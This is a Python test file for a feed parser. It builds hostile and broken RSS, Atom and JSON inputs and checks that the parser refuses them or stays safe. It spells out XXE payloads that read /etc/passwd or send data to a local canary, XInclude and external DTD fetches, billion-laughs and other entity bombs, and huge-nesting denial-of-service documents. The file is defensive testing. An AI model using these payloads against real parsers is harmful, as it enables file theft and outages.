"""Documents made to hurt whoever parses them, and such as are merely broken."""

import json

from tests.hostile.case import (
    SECRET,
    WELL,
    Asked,
    Case,
    Check,
    Play,
    Want,
    doc,
    either,
    entry,
    feed,
    http,
    nothing_of,
    raw,
    rss,
    stories,
    that,
    unread,
    well,
)  # fmt: skip

_UNREAD = ("entities", "unreadable", "not_a_feed")
# What /etc/passwd begins with everywhere.
_SAFE = nothing_of(SECRET, "root:x:", "/bin/")


def _declaring(subset: str, title: str = "&x;", *, more: str = "") -> str:
    """A feed with an internal subset; `title` uses it."""
    prolog = f'<?xml version="1.0"?><!DOCTYPE rss [{subset}]>'
    return rss(f"<item><title>{title}</title><guid>1</guid>{more}</item>", prolog=prolog)


def _trap(name: str, play: Play, *more: str) -> Case:
    """Refused, or read without any of what it reaches for."""
    return Case(id=name, play=play, want=either(*_UNREAD, WELL, *more, items=(0, 1), check=_SAFE))


def _xxe(name: str, subset: str, title: str = "&x;") -> Case:
    def play(asked: Asked) -> bytes:
        return http(_declaring(subset.replace("CANARY", f"http://127.0.0.1:{asked.canary}"), title).encode())

    return _trap(f"xxe-{name}", play)


def _xxe_utf16(asked: Asked) -> bytes:
    text = _declaring('<!ENTITY x SYSTEM "file:///etc/passwd">').replace('"1.0"', '"1.0" encoding="utf-16"', 1)
    return http(text.encode("utf-16"), content_type="application/xml")


def _xxe_utf7(asked: Asked) -> bytes:
    text = _declaring('<!ENTITY x SYSTEM "file:///etc/passwd">').replace('"1.0"', '"1.0" encoding="utf-7"', 1)
    start, _, rest = text.partition("?>")
    return http((start + "?>").encode() + rest.encode("utf-7"), content_type="application/xml; charset=utf-7")


def _xinclude(asked: Asked) -> bytes:
    include = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='{}'/>"
    local, remote = include.format("file:///etc/passwd"), include.format(f"http://127.0.0.1:{asked.canary}/")
    return http(
        rss(f"<item><title>One {local}</title><guid>1</guid><description>{remote}</description></item>").encode()
    )


def _stylesheet(asked: Asked) -> bytes:
    prolog = f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://127.0.0.1:{asked.canary}/'?>"
    return http(rss(entry(asked.base, 1), prolog=prolog).encode())


XXE = (
    _xxe("file", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
    _xxe("http", '<!ENTITY x SYSTEM "CANARY/x">'),
    _xxe("public", '<!ENTITY x PUBLIC "-//X//Y" "CANARY/x">'),
    _xxe("parameter", '<!ENTITY % p SYSTEM "CANARY/p"> %p;', "One"),
    _xxe(
        "parameter-file",
        '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY x SYSTEM \'CANARY/?%f;\'>"> %e;',
    ),
    _xxe("comment-inside", '<!ENTITY x <!-- --> SYSTEM "file:///etc/passwd">'),
    _trap(
        "xxe-dtd",
        lambda asked: http(
            rss(
                entry(asked.base, 1), prolog=f'<!DOCTYPE rss SYSTEM "http://127.0.0.1:{asked.canary}/evil.dtd">'
            ).encode()
        ),
    ),
    _trap("xxe-utf16", _xxe_utf16),
    _trap("xxe-utf7", _xxe_utf7),
    _trap("xinclude", _xinclude),
    Case(id="xml-stylesheet", play=_stylesheet, want=well(1)),
)


# ----------------------------------------------------------------------------------------------------- entities


def _laughs(depth: int = 10) -> str:
    lines = ['<!ENTITY l0 "lol">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth))]
    return "".join(lines)


def _chain(links: int) -> str:
    return '<!ENTITY c0 "x">' + "".join(f'<!ENTITY c{n} "&c{n - 1};">' for n in range(1, links))


ENTITIES = (
    Case(id="laughs-text", play=doc(lambda _: _declaring(_laughs(), "&l9;")), want=unread("entities", "unreadable")),
    Case(
        id="laughs-attribute",
        play=doc(lambda _: _declaring(_laughs(), "One", more='<enclosure url="&l9;" type="x"/>')),
        want=unread("entities", "unreadable"),
    ),
    Case(
        id="laughs-parameter",
        play=doc(lambda _: _declaring('<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;"><!ENTITY x "%b;%b;">')),
        want=unread("entities", "unreadable"),
    ),
    Case(
        id="laughs-escaped",
        play=doc(lambda _: _declaring(_laughs().replace("&", "&#38;"), "&l9;")),
        want=unread("entities", "unreadable"),
    ),
    Case(
        id="quadratic-entity",
        play=doc(lambda _: _declaring(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 20_000)),
        want=unread("entities", "unreadable"),
    ),
    Case(id="entity-chain", play=doc(lambda _: _declaring(_chain(30_000), "&c29999;")),
         want=unread("entities", "unreadable")),
    Case(id="entity-self", play=doc(lambda _: _declaring('<!ENTITY x "&x;">')), want=unread("entities", "unreadable")),
    Case(id="entity-pair", play=doc(lambda _: _declaring('<!ENTITY x "&y;"><!ENTITY y "&x;">')),
         want=unread("entities", "unreadable")),
    Case(id="entity-simple", play=doc(lambda _: _declaring('<!ENTITY x "A word">')), want=well(1, titles=["A word"])),
    Case(
        id="entities-undefined",
        play=doc(lambda base: rss(entry(base, 1, "Caf&eacute; &nbsp;&hellip; &nosuch;"))),
        want=well(1, check=that(lambda result: "Café" in result.items[0].title, "&eacute; is not read")),
    ),
)  # fmt: skip


# ----------------------------------------------------------------------------------------------------- shapes


def _heavy(name: str, play: Play, *codes: str, items: tuple[int, int] = (0, 1), check: Check | None = None) -> Case:
    codes = codes or (WELL, "unreadable", "worker_time", "worker_memory", "damaged")
    return Case(id=name, play=play, want=either(*codes, items=items, check=check), heavy=True)


def _nested(depth: int, element: str = "b") -> Play:
    deep = f"<{element}>" * depth + "x" + f"</{element}>" * depth
    return doc(lambda _: rss(f"<item><title>One</title><guid>1</guid><x>{deep}</x></item>"))


def _nested_html(depth: int) -> Play:
    deep = "&lt;div>" * depth + "words" + "&lt;/div>" * depth
    return doc(lambda _: rss(f"<item><title>One</title><guid>1</guid><description>{deep}</description></item>"))


def _nested_xhtml(depth: int) -> Play:
    deep = "<div>" * depth + "words" + "</div>" * depth
    return doc(
        lambda _: (
            "<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title><entry><id>1</id><title>One</title>"
            f"<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>{deep}</div></content></entry></feed>"
        )
    )


def _attributes(count: int) -> Play:
    many = " ".join(f"a{n}=''" for n in range(count))
    return doc(lambda _: rss(f"<item {many}><title>One</title><guid>1</guid></item>"))


def _namespaces(count: int) -> Play:
    many = " ".join(f"xmlns:n{n}='urn:{n}'" for n in range(count))
    return doc(lambda _: f"<rss version='2.0' {many}><channel><item><title>One</title></item></channel></rss>")


SHAPES = (
    Case(id="attributes-60k", play=_attributes(60_000), want=unread("unreadable", "worker_time")),
    _heavy("attributes-spread", doc(lambda _: rss(*(
        f"<item><title>One</title><guid>{m}</guid><x {' '.join(f'a{n}=q' for n in range(150))}/></item>".replace("=q", "='q'")
        for m in range(500)
    ))), items=(0, 500)),
    _heavy("big-token", doc(lambda _: rss(f"<item><title {'a' * 8_000_000}='1'>One</title></item>"))),
    _heavy("big-attribute", doc(lambda _: rss(f"<item><title a='{'1' * 8_000_000}'>One</title><guid>1</guid></item>"))),
    _heavy("big-comment", doc(lambda base: rss(f"<!-- {'- ' * 4_000_000} -->", entry(base, 1)))),
    _heavy("big-cdata", doc(lambda _: rss(
        f"<item><title>One</title><guid>1</guid><x><![CDATA[{'] ]' * 2_000_000}]]></x></item>"
    ))),
    _heavy("comment-many", doc(lambda base: rss("<!-- -->" * 400_000, entry(base, 1)))),
    _heavy("instructions-many", doc(lambda base: rss("<?x y?>" * 200_000, entry(base, 1)))),
    Case(id="nested-1k", play=_nested(1_000), want=well(1, titles=["One"])),
    _heavy("nested-100k", _nested(100_000)),
    _heavy("nested-html-50k", _nested_html(50_000)),
    _heavy("nested-xhtml-50k", _nested_xhtml(50_000)),
    Case(id="namespaces-20k", play=_namespaces(20_000), want=either("unreadable", "worker_time", WELL, items=(0, 1))),
    _heavy("open-tags-200k", doc(lambda _: "<rss version='2.0'><channel>" + "<item><title>" * 200_000),
           "damaged", "unreadable", "not_a_feed", "worker_time", "worker_memory", WELL, items=(0, 5_000)),
    _heavy("ampersands-2m", doc(lambda _: rss(f"<item><title>{'&' * 2_000_000}</title><guid>1</guid></item>"))),
    _heavy("angle-brackets-2m", doc(lambda _: rss(f"<item><title>{'<' * 2_000_000}</title><guid>1</guid></item>")),
           WELL, "unreadable", "damaged", "not_a_feed", "worker_time", "worker_memory"),
    _heavy("doctype-unclosed", doc(lambda _: "<!DOCTYPE rss [" + "<!ELEMENT a (b)>" * 400_000),
           "entities", "unreadable", "not_a_feed", "worker_time"),
    _heavy("prolog-comments", doc(lambda base: "<!-- a -->\n " * 300_000 + rss(entry(base, 1)))),
)  # fmt: skip


# ----------------------------------------------------------------------------------------------------- JSON


def _json(base: str, **more: object) -> str:
    items = [{"id": f"{base}/{n}", "url": f"{base}/{n}", "title": f"Story {n}", "content_text": "w"} for n in (1, 2, 3)]
    told: dict[str, object] = {"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": items}
    return json.dumps(told | more)


_JSON = "application/feed+json"
_ODD_ITEMS: list[object] = [None, 7, "x", [], {}, {"id": None}, {"id": 1, "title": ["x"], "url": {"a": 1}, "tags": "x"}]

JSON = (
    Case(id="json-good", play=doc(_json, content_type=_JSON), want=well(3, titles=stories())),
    Case(id="json-deep", play=doc(lambda _: '{"a":' * 100_000, content_type=_JSON), want=unread("unreadable")),
    Case(id="json-deep-list", play=doc(lambda _: "[" * 1_000_000, content_type=_JSON),
         want=unread("unreadable", "not_a_feed")),
    Case(
        id="json-big-integer",
        play=doc(lambda base: _json(base).replace('"title": "t"', f'"title": {"9" * 100_000}'), content_type=_JSON),
        want=either("unreadable", WELL, items=(0, 3)),
    ),
    Case(
        id="json-integers",
        play=doc(lambda base: _json(base, items=[{"id": 10**300, "title": 1e308, "content_text": "w"}]), content_type=_JSON),
        want=well(1),
    ),
    Case(id="json-infinity", play=doc(lambda base: _json(base, expired=float("inf"), x=float("nan")), content_type=_JSON),
         want=either("unreadable", WELL, items=(0, 3))),
    Case(id="json-odd-items", play=doc(lambda base: _json(base, items=_ODD_ITEMS), content_type=_JSON),
         want=either("damaged", WELL, items=(0, 3))),
    Case(id="json-items-object", play=doc(lambda base: _json(base, items={"1": 2}), content_type=_JSON),
         want=unread("not_a_feed")),
    Case(id="json-cut", play=doc(lambda base: _json(base)[:-20], content_type=_JSON), want=unread("unreadable", "damaged")),
    Case(id="json-other", play=raw(http(b'{"error": "no such feed"}', content_type="application/json")),
         want=unread("not_a_feed")),
)  # fmt: skip


# ----------------------------------------------------------------------------------------------------- merely broken


def _cut(asked: Asked) -> bytes:
    """Whole by its length, and yet cut off in the third story: the first two are kept, the source is not well."""
    body = feed(asked.base)
    return http(body[: body.index(b"Story 3") + 4])


_TWO = Want(steps=(frozenset({"damaged"}),), items=(2, 2), titles=frozenset(stories(2)), deadline=60)
_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8

BROKEN = (
    Case(id="xml-cut", play=_cut, want=_TWO),
    Case(id="xml-cut-in-tag", play=lambda asked: http(feed(asked.base)[:-30]), want=either("damaged", items=(2, 3))),
    Case(id="xml-cut-first", play=lambda asked: http(feed(asked.base)[:300]), want=either("damaged", "unreadable", items=(0, 0))),
    Case(id="xml-two-roots", play=lambda asked: http(feed(asked.base) + feed(asked.base + "/b")),
         want=either(WELL, "unreadable", "damaged", items=(0, 6))),
    Case(id="junk-before", play=lambda asked: http(b"\r\n\r\n junk \r\n" + feed(asked.base)), want=well(3, titles=stories())),
    Case(id="blank-before", play=lambda asked: http(b"\r\n\r\n  " + feed(asked.base)), want=well(3, titles=stories())),
    Case(id="junk-after", play=lambda asked: http(feed(asked.base) + b"<script>x()</script>\n<!-- 0.3 s -->"),
         want=well(3, titles=stories())),
    Case(id="bare-ampersand", play=doc(lambda base: rss(entry(base, 1, "AT&T & Co"))), want=well(1, titles=["AT&T & Co"])),
    Case(id="wrong-nesting", play=doc(lambda base: rss(entry(base, 1, "<b><i>One</b></i>"))), want=well(1)),
    Case(id="not-declared-prefix", play=doc(lambda base: rss(entry(base, 1, more="<dc:creator>A. N.</dc:creator>"))),
         want=well(1, titles=["Story 1"])),
    Case(id="xml-pdf", play=raw(http(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"x" * 5_000)), want=unread("not_a_feed")),
    Case(id="xml-png", play=raw(http(_PNG)), want=unread("not_a_feed")),
    Case(id="xml-binary", play=raw(http(bytes(range(256)) * 50)), want=unread("not_a_feed", "unreadable", "html")),
    Case(id="xml-opml", play=raw(http(b"<opml version='2.0'><body><outline xmlUrl='http://127.0.0.1/'/></body></opml>")),
         want=unread("not_a_feed")),
    Case(id="xml-sitemap", play=raw(http(
        b"<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url><loc>http://x.example/</loc></url></urlset>"
    )), want=unread("not_a_feed")),
    Case(id="xml-svg", play=raw(http(b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>")),
         want=unread("not_a_feed")),
    Case(id="xml-other", play=raw(http(b"<?xml version='1.0'?><Error><Code>AccessDenied</Code></Error>")),
         want=unread("not_a_feed")),
)  # fmt: skip

CASES = (*XXE, *ENTITIES, *SHAPES, *JSON, *BROKEN)
